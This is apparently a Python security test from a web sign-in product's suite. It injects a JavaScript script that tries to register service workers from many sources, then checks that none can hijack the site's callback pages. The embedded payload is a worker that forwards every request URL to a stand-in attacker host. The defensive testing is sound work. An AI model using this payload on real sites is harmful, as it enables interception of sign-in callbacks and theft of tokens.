"""A script registers a service worker, which would see the callback's address and outlive the page: from the site's own
files, from blob: and data: URLs, from the attacker's server, and for every scope.
"""

import contextlib
import re

from tests.attacks.speech import WORKERS, said
from tests.lanes.driver import NotSeen

SCRIPT = said(
    WORKERS,
    """
  const text = `addEventListener("fetch", (event) => fetch("${known.evil}/sw?" + encodeURIComponent(event.request.url), { mode: "no-cors" }))`;
  const blob = URL.createObjectURL(new Blob([text], { type: "text/javascript" }));
  const own = [...document.querySelectorAll("script[src], link[href]")].map((each) => each.src || each.href);
  const urls = [...own, ...performance.getEntriesByType("resource").map((entry) => entry.name), blob, "data:text/javascript," + text,
    known.evil + "/sw.js", "/robots.txt", "/manifest.json", "/callback/", "/nowhere.js", globalThis.__GOSSAMER__?.settings.vault,
    globalThis.__GOSSAMER__?.settings.door].filter(Boolean);
  const windows = [globalThis, frame.contentWindow];
  const said = [];
  for (const url of new Set(urls)) for (const options of [{}, { scope: "/" }, { scope: "/callback/" }, { type: "module" }, { type: "module", scope: "/" }])
    for (const realm of windows) {
      try {
        const made = await realm.navigator.serviceWorker.register(allowed(url), options);
        said.push(`registered ${url} for ${made.scope}`);
      } catch (error) { said.push(`${url} ${JSON.stringify(options)} ${error}`); }
    }
  for (const made of await navigator.serviceWorker.getRegistrations()) {
    for (const each of [made.installing, made.waiting, made.active]) if (each) said.push(`there: ${new URL(each.scriptURL).pathname} for ${made.scope}`);
  }
  return said;""",
)
REMAINS = "can start the vault's own script as a service worker, which then answers nothing, and keep the vault from the door"
FORGET = "async () => { for (const each of await navigator.serviceWorker.getRegistrations()) await each.unregister(); }"


def act(scene):
    visitor, subject = scene.visitor, scene.subject
    subject.sign_in(visitor)
    scene.run(SCRIPT)
    visitor.go(subject.url + subject.start)
    with contextlib.suppress(NotSeen):  # a vault without access to the door cannot begin a sign-in
        subject.call(visitor)
    visitor.run(FORGET)


def test_ours(assault, ours, collector):
    outcome = assault(ours)
    assert "Failed to register" in outcome.loot or "SecurityError" in outcome.loot
    there = dict(re.findall(r"there: (\S+) for (\S+)\"", outcome.loot))
    assert there.pop("/callback/door.js", "") == f"{ours.url}/callback/", "the door is not there any more"
    strangers = [
        path for path in there if not path.startswith(("/callback/vault/vault.", "/assets/runtime."))
    ]
    assert strangers == [], "a service worker runs what is neither the door nor the vault"
    pages = [scope for scope in there.values() if scope in (f"{ours.url}/", f"{ours.url}/callback/")]
    assert pages == [], "a service worker has pages of the site"
    assert [heard.url for heard in collector.heard] == []
    assert outcome.stolen == ()
